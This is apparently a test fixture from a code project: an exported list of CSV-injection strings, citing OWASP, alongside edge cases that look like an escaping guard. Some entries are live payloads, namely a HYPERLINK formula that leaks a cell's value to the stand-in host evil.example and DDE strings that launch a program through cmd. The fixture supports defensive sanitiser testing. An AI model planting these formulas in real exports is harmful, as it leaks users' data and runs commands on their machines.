/** Strings a spreadsheet would run as formulas (OWASP CSV Injection), and strings that look like their guard. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '=1,2',
  '\uFF1D1+1',
  "'=already guarded?",
  "''-two apostrophes",
  "'plain apostrophe",
  "it's fine",
  'quote " inside',
];
